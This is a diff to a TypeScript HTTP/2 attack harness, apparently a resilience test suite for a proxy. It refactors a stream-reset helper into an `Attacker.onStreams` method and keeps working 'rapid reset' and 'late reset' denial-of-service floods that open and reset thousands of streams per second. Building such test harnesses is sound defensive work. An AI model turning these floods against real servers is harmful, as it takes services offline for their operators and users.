@@ -129,6 +129,24 @@ export class Attacker {
 		return pace(perSecond, openOne);
 	}
 
+	/** Four HTTP/2 connections on which `act` is called so often in a second each, with the next stream's id. */
+	onStreams(perSecond: number, act: (socket: TLSSocket, id: number) => void): () => void {
+		const streams = new Map<TLSSocket, number>();
+		const stop = this.keep(4, 20, async () => {
+			const socket = await this.connectH2();
+			if (socket !== undefined) streams.set(socket, 1);
+			socket?.once('close', () => streams.delete(socket));
+			return socket;
+		});
+		const stopResets = pace(perSecond, () => {
+			for (const [socket, id] of streams) {
+				act(socket, id);
+				streams.set(socket, id + 2);
+			}
+		});
+		return both(stop, stopResets);
+	}
+
 	/** What it has sent on all its connections. */
 	get sentBytes(): number {
 		let sum = this.#sentBytes;
@@ -151,30 +169,12 @@ interface Windows {
 
 const MIB = 2 ** 20;
 
-/** Four connections on which `act` is called so often in a second each, with the next stream's id. */
-function resetStreams(attacker: Attacker, perSecond: number, act: (socket: TLSSocket, id: number) => void): () => void {
-	const streams = new Map<TLSSocket, number>();
-	const stop = attacker.keep(4, 20, async () => {
-		const socket = await attacker.connectH2();
-		if (socket !== undefined) streams.set(socket, 1);
-		socket?.once('close', () => streams.delete(socket));
-		return socket;
-	});
-	const stopResets = pace(perSecond, () => {
-		for (const [socket, id] of streams) {
-			act(socket, id);
-			streams.set(socket, id + 2);
-		}
-	});
-	return both(stop, stopResets);
-}
-
 const RATED: readonly Omit<Attack, 'rampMs'>[] = [
 	{
 		name: 'rapid reset',
 		rate: '2 000 streams/s opened and reset',
 		start: (attacker) =>
-			resetStreams(attacker, 500, (socket, id) => {
+			attacker.onStreams(500, (socket, id) => {
 				socket.write(Buffer.concat([request(id, attacker.token(id)), rstStreamFrame(id)]));
 			}),
 	},
@@ -182,7 +182,7 @@ const RATED: readonly Omit<Attack, 'rampMs'>[] = [
 		name: 'late reset',
 		rate: '500 streams/s opened, and reset when the upstream has them',
 		start: (attacker) =>
-			resetStreams(attacker, 125, (socket, id) => {
+			attacker.onStreams(125, (socket, id) => {
 				socket.write(request(id, attacker.token(id), '/slow'));
 				if (id > 2) socket.write(rstStreamFrame(id - 2));
 			}),
@@ -365,7 +365,7 @@ function dripTo(sockets: ReadonlySet<TLSSocket>, perSecond: number): () => void 
 	});
 }
 
-function both(...stops: (() => void)[]): () => void {
+export function both(...stops: (() => void)[]): () => void {
 	return () => {
 		for (const stop of stops) stop();
 	};
